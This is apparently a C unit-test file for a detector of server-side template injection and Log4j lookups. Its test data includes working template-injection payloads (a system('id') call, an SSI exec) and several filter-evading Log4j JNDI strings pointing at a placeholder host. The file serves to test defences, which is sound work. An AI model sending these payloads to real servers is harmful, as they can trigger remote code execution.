/*
 * detect_ssti_test.c — black-box tests of rp_detect_ssti(): server-side
 * template, expression-language and include injection, Log4j lookups.
 *
 * Cases are data (tests/unit/data/ssti/attacks.txt must all be flagged,
 * benign.txt, look-alikes included, never); see detect_harness.h. The rest
 * pins fingerprints and checks hostile input for crashes and linear time.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "detect_harness.h"

static void test_attacks(void **state)
{
    (void)state;
    dh_run_file(rp_detect_ssti, "ssti", "attacks.txt", true);
}

static void test_benign(void **state)
{
    (void)state;
    dh_run_file(rp_detect_ssti, "ssti", "benign.txt", false);
}

static void test_fingerprints(void **state)
{
    (void)state;
    dh_expect(rp_detect_ssti, "{{7*7}}", "ssti:math");
    dh_expect(rp_detect_ssti, "<%= system('id') %>", "ssti:call");
    dh_expect(rp_detect_ssti, "{{''.__class__}}", "ssti:dunder");
    dh_expect(rp_detect_ssti, "{{config}}", "ssti:object");
    dh_expect(rp_detect_ssti, "${${lower:j}ndi:ldap://x/a}", "ssti:jndi");
    dh_expect(rp_detect_ssti, "${env:HOME}", "ssti:lookup");
    dh_expect(rp_detect_ssti, "<!--#exec cmd=\"ls\" -->", "ssti:ssi");
    dh_expect(rp_detect_ssti, "<#assign x=1>", "ssti:freemarker");
    dh_expect(rp_detect_ssti, "#set($a=1)", "ssti:velocity");
    dh_expect(rp_detect_ssti, "{php}x{/php}", "ssti:smarty");
    dh_expect(rp_detect_ssti, "{% import os %}", "ssti:jinja");
    dh_expect(rp_detect_ssti, "<esi:include src=\"x\"/>", "ssti:esi");
}

static void test_hostile(void **state)
{
    static const char *const patterns[] = {
        "{{",    "${", "${${", "}",     "{{7*", "<%",  "#{",    "${lower:",
        "${::-", "{%", "@(",   "?new(", "[#",   "$a.", "<!--#", NULL,
    };
    (void)state;
    dh_hostile(rp_detect_ssti, patterns);
}

/* Log4j lookups are resolved before the verdict, nested and mixed. */
static void test_lookup_resolution(void **state)
{
    static const char *const jndi[] = {
        "${jndi:ldap://x/a}",
        "${${lower:J}${upper:n}di:ldap://x/a}",
        "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}",
        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://x/a}",
        "${${date:'j'}${date:'n'}di:ldap://x/a}",
        "${jn${lower:${upper:d}}i:rmi://x/a}",
        NULL,
    };
    (void)state;
    for (const char *const *s = jndi; *s; s++) {
        dh_expect(rp_detect_ssti, *s, "ssti:jndi");
    }
    /* unclosed lookups are not lookups */
    assert_false(rp_detect_ssti("${jndi:ldap://x/a", 17, NULL));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_attacks),           cmocka_unit_test(test_benign),
        cmocka_unit_test(test_fingerprints),      cmocka_unit_test(test_hostile),
        cmocka_unit_test(test_lookup_resolution),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
